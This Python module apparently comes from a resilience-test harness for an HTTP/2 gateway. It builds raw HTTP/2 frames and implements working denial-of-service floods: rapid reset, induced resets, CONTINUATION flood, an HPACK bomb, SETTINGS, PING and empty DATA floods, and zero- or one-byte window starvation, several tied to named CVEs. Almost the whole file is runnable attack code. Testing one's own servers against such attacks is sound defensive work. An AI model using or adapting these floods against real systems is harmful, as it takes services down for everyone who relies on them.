"""Attacks over HTTP/2, frame by frame, with prior knowledge on a cleartext listener. For the table in attacks.py."""
import itertools
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field without indexing, its name as text (RFC 7541 §6.2.2); up to 126 bytes each."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path=b"/open/x", method=b"\x82"):
    """GET by default; \x83 is POST."""
    return method + b"\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01\x07gateway"


def headers(stream, path=b"/open/x", end=True, method=b"\x82"):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, head(path, method))


class Connection:
    """Reads and throws away, so that the other side is never held by us, unless `reads` is false."""

    def __init__(self, attack, settings=b"", reads=True):
        self.socket = attack.connect()
        self.socket.settimeout(2)
        self.attack, self.isOver, self.stream = attack, threading.Event(), -1
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        try:
            self.socket.settimeout(20)
            while self.socket.recv(1 << 20):
                pass
        except OSError:
            pass
        self.isOver.set()

    def next(self):
        self.stream += 2
        return self.stream

    def flood(self, piece, pause=0.001):
        """Sends what `piece` makes until it is cut off, or until time is up."""
        try:
            while self.attack.goes_on and not self.isOver.is_set():
                self.socket.sendall(piece())
                self.attack.count(done=1)
                time.sleep(pause)
            self.attack.count(cut=self.isOver.is_set())
        finally:
            self.socket.close()


def requests_with(*makers):
    """Fifty requests at a time on four connections, each with what one of the makers puts behind its head."""
    def attack_with(attack):
        def each():
            c = Connection(attack)
            make = makers[next(turn) % len(makers)]

            def piece():
                streams = [c.next() for _ in range(50)]
                return b"".join(headers(stream) + make(stream) for stream in streams)
            c.flood(piece)
        turn = itertools.count()
        attack.threads(4, each)
    return attack_with


def update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


# CVE-2023-44487: requests that are taken back at once.
rapid_reset = requests_with(reset)
# CVE-2025-8671: errors of its own in streams, so that the server resets them and goes on working.
induced_resets = requests_with(lambda stream: update(stream, 0x7fffffff))
# The same with what ends the connection at once.
empty_updates = requests_with(lambda stream: update(stream, 0))


def later_reset(attack):
    """Taken back as soon as the server behind has been asked."""
    def each():
        c = Connection(attack)

        def piece():
            streams = [c.next() for _ in range(20)]
            c.socket.sendall(b"".join(headers(stream) for stream in streams))
            time.sleep(0.003)
            return b"".join(reset(stream) for stream in streams)
        c.flood(piece)
    attack.threads(4, each)


def continuation_flood(attack):
    """CVE-2024-27316: a head that never ends."""
    def each():
        c = Connection(attack)
        c.socket.sendall(frame(HEADERS, END_STREAM, 1, head()))
        field = literal(b"x-long", b"a" * 100) * 100
        c.flood(lambda: frame(CONTINUATION, 0, 1, field))
    attack.threads(4, each)


def hpack_bomb(attack):
    """One large field in the dynamic table, named a thousand times in a byte each. (RFC 7541 §7.3)"""
    def each():
        c = Connection(attack)
        large = b"\x40\x01x\x7f\xa1\x1e" + b"b" * 4000

        def piece():
            return (frame(HEADERS, END_HEADERS | END_STREAM, c.next(), head() + large)
                    + frame(HEADERS, END_HEADERS | END_STREAM, c.next(), head() + b"\xbe" * 8000))
        c.flood(piece)
    attack.threads(4, each)


def flood_of(make):
    def attack_with(attack):
        def each():
            c = Connection(attack)
            c.flood(lambda: make(c) * 100)
        attack.threads(4, each)
    return attack_with


settings_flood = flood_of(lambda c: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))
ping_flood = flood_of(lambda c: frame(PING, 0, 0, b"12345678"))


def empty_data_flood(attack):
    """CVE-2019-9518: DATA frames without data, on a request that never ends."""
    def each():
        c = Connection(attack)
        c.socket.sendall(headers(c.next(), end=False, method=b"\x83"))
        c.flood(lambda: frame(DATA, 0, 1) * 100)
    attack.threads(4, each)


def zero_window(attack):
    """CVE-2019-9517 and others: many answers asked for, none taken."""
    def each():
        c = Connection(attack, struct.pack(">HI", 4, 0))
        c.socket.sendall(b"".join(headers(c.next(), b"/open/large") for _ in range(50)))
        attack.count(done=50)
        while attack.goes_on and not c.isOver.is_set():
            time.sleep(0.05)
        attack.count(cut=c.isOver.is_set())
        c.socket.close()
    attack.threads(8, each)


def tiny_window(attack):
    """A byte of window now and then for each answer."""
    def each():
        c = Connection(attack, struct.pack(">HI", 4, 1))
        streams = [c.next() for _ in range(30)]
        c.socket.sendall(b"".join(headers(stream, b"/open/large") for stream in streams))
        attack.count(done=30)

        def piece():
            time.sleep(0.3)
            return b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams[:4])
        c.flood(piece)
    attack.threads(8, each)
